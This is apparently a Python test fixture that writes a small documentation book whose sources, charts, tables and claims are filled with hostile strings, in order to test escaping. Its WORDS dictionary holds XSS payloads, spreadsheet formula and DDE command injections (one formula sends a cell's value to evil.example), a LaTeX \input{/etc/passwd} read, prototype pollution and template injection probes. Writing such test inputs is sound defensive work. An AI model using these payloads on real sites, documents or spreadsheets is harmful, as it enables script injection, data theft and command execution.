"""A small book whose data were written by somebody who means harm; written to a folder by :func:`write`.

The words go the way of all words: into a table of sources and its sidecar, through ``load`` into a table, a chart and
a figure of the prose of a stored notebook, and into bibliography, data catalogue and ledger of claims.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import nbformat
import pandas as pd
import plotly.graph_objects as go
from show_samples import cell, notebook, still_for

from aleppo.claims.ledger import LEDGER
from aleppo.evidence import TABLES, load
from aleppo.evidence.files import sha256_file
from aleppo.evidence.load import read_table
from aleppo.evidence.manifest import describe, render_sidecar
from aleppo.evidence.sources import bibtex
from aleppo.show import Figure, Table
from aleppo.show.numbers import GLUE_PREFIX

# Each sets window.pwned, opens a dialog or leads somewhere, if it is taken for what it looks like.
WORDS: dict[str, str] = {
    "script": "<script>window.pwned=1</script><img src=x onerror='alert(1)'>",
    "attribute": '" onmouseover="alert(1)" x=\'><svg/onload=alert(1)>',
    "closing": "</script></style></textarea><script>window.pwned=1</script>",
    "formula": '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "command": "+cmd|' /C calc'!A0",
    "sum": "-2+3",
    "at": "@SUM(1+1)*cmd",
    "override": "invoice\u202efdp.exe\u2066x",
    "separator": "before\u2028after\u2029<!-- x -->",
    "myst": "{cite}`nobody` {ref}`nowhere` [z](javascript:alert(1)) ![i](x.png) `code` # H **b** {{ s }} ::: %",
    "restructured": "`x <javascript:alert(1)>`_ |sub| :ref:`a` .. raw:: html",
    "typst": '#import "@preview/x:1.0": * #eval("1+1") $x^2$ <label> @ref = Head // c /* d */ \\u{41}',
    "latex": "\\input{/etc/passwd} \\end{document} $\\frac{1}{2}$ % comment ~ ^ & _ {",
    "json": '{"a": "</script>", "__proto__": [1]}',
    "plotly": '%{y} <extra>x</extra> <b>n</b> <a href="javascript:alert(1)">l</a> <span style="x">s</span> &lt;i&gt;',
    "jinja": "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %>",
}
LONG = "Aleppo" * 1667  # ten thousand letters without a break
# What no file of evidence may hold, and a computed text might.
CONTROLS = "bell\x07 null\x00 escape\x1b[2J tab\t end\x85 last"
ADDRESS = "https://example.org/a\"onmouseover='alert(1)'<b>{x}\\"
BOOK = "hostile"

INDEX = """\
# A book of other people's words

Said in the prose: {{glue:text}}`chapter.ipynb::said:s`. Told by {{cite:p}}`{first}`.

```{{toctree}}
chapter
data
claims
```

## References

```{{bibliography}}
:style: plain
```
"""

CONF = """
project = "A book of other people's words"
author = "Nobody"
root_doc = "index"
extensions = ["myst_nb", "sphinxcontrib.bibtex", "sphinx_design", "aleppo.bookkit.catalogue", "aleppo.bookkit.claims",
              "aleppo.bookkit.offline", "aleppo.bookkit.print"]
html_theme = "sphinx_book_theme"
html_theme_options = {"use_fullscreen_button": False, "use_download_button": False}
html_context = {"default_mode": "auto"}
html_show_search_summary = False
html_show_sourcelink = False
myst_enable_extensions = ["amsmath", "attrs_block", "attrs_inline", "colon_fence", "deflist", "dollarmath",
                          "substitution"]
myst_url_schemes = ["mailto", "http", "https"]
nb_execution_mode = "off"
bibtex_bibfiles = ["references.bib"]
bibtex_reference_style = "author_year"
numfig = True
smartquotes = False
suppress_warnings = ["myst.header"]
print_book = {"target": "hostile", "date": "2020-02-03", "template": %(template)r}
"""


def rows() -> list[dict[str, str]]:
    """The table of sources: every word as title, publisher and author of one."""
    return [
        {
            "source_id": f"source-{name}",
            "title": text,
            "publisher": text,
            "author": text,
            "published": "2016",
            "url": ADDRESS,
            "language": "en",
            "type": "forum",
            "read": "original",
        }
        for name, text in [*WORDS.items(), ("long", LONG)]
    ]


def write_data(folder: Path) -> Path:
    """A data folder with the table of sources, its sidecar, and a ledger with one claim."""
    table = TABLES["sources"]
    path = folder / table.path
    path.parent.mkdir(parents=True)
    with path.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, table.column_names, lineterminator="\n", restval="")
        writer.writeheader()
        writer.writerows(sorted(rows(), key=lambda row: row["source_id"]))
    reading = read_table(table, path)
    assert reading.faults == (), reading.faults
    assert reading.frame is not None
    sidecar = describe(table, reading.frame, sha256_file(path), [])
    for name in ("title", "description", "publisher"):
        sidecar[name] = f"{name} {WORDS['myst']} {WORDS['script']}"
    sidecar["known_gaps"] = list(WORDS.values())
    path.with_suffix(".yml").write_text(render_sidecar(sidecar), encoding="utf-8")
    (folder / LEDGER).write_text(json.dumps([claim()]) + "\n", encoding="utf-8")
    return folder


def claim() -> dict[str, object]:
    """An entry of the ledger whose every sentence is all words at once."""
    said = " ".join(WORDS.values()).replace("{", "(").replace("}", ")")
    names = {"claim": "ITV-01", "article": "itv", "domain": "toll", "kind": "number", "test": "judgement"}
    texts = dict.fromkeys(("paraphrase", "attributed_to", "reason", "says"), said)
    lists: dict[str, object] = {"supports": ["source-script"], "opposes": [], "tables": [], "evidence": []}
    return {
        **names,
        **texts,
        **lists,
        "verdict": "supported",
        "confidence": "low",
        "data": "0",
        "figures": {},
        "chapter": "",
        "figure": "",
    }


def figure(sources: pd.DataFrame) -> Figure:
    """A chart with the words in every place where plotly prints text."""
    texts = [*sources["title"], CONTROLS]
    chart = go.Figure(
        go.Scatter(
            x=list(range(len(texts))),
            y=[1] * len(texts),
            mode="markers+text",
            text=texts,
            name=WORDS["plotly"],
            hovertemplate="%{text}<extra></extra>",
        )
    )
    chart.update_layout(
        xaxis={"tickvals": [0, 1], "ticktext": [WORDS["script"], WORDS["plotly"]]},
        yaxis_title_text=WORDS["plotly"],
        annotations=[{"x": 2, "y": 1, "text": WORDS["plotly"]}],
        height=420,
    )
    return Figure(
        chart,
        id="words",
        title=" ".join(WORDS.values()),
        caption=CONTROLS,
        alt=WORDS["attribute"],
        sources=["source-script"],
        tables=["sources"],
        data=sources[["title", "publisher"]].assign(computed=CONTROLS),
    )


def table(sources: pd.DataFrame) -> Table:
    """A table of the words, with filters."""
    return Table(
        sources.assign(computed=CONTROLS),
        id="words",
        caption=" ".join(WORDS.values()),
        columns={
            "source_id": "Source",
            "title": WORDS["script"],
            "publisher": "Publisher",
            "computed": "Computed",
        },
        formats={"source_id": "cite"},
        sources=["source-script"],
        tables=["sources"],
        explore=["publisher"],
    )


def write(folder: Path, root: Path) -> Path:
    """Write the sources of the book to ``folder``; the data folder is the one that ``load`` reads."""
    sources = load("sources")
    drawn = figure(sources)
    said = nbformat.v4.new_output(
        "display_data",
        data={f"{GLUE_PREFIX}text/plain": repr(WORDS["myst"])},
        metadata={"scrapbook": {"name": "said", "mime_prefix": GLUE_PREFIX}},
    )
    (folder / "book" / "figures").mkdir(parents=True)
    (folder / "book" / "figures" / "words.svg").write_text(still_for(drawn.payload), encoding="utf-8")
    cells = [
        nbformat.v4.new_markdown_cell("# The chapter"),
        nbformat.v4.new_code_cell("say()", execution_count=1, outputs=[said]),
        cell(drawn),
        cell(table(sources)),
    ]
    nbformat.write(notebook(*cells), folder / "chapter.ipynb")
    (folder / "index.md").write_text(INDEX.format(first="source-script"), encoding="utf-8")
    (folder / "data.md").write_text("# Data\n\n% data-catalogue\n", encoding="utf-8")
    (folder / "claims.md").write_text("# Claims\n\n% claims itv\n", encoding="utf-8")
    (folder / "references.bib").write_text(bibtex(sources), encoding="utf-8")
    (folder / "conf.py").write_text(
        CONF % {"template": str(root / "book" / "print" / "book.typ")}, encoding="utf-8"
    )
    (folder / "CITATION.cff").write_bytes((root / "CITATION.cff").read_bytes())
    return folder
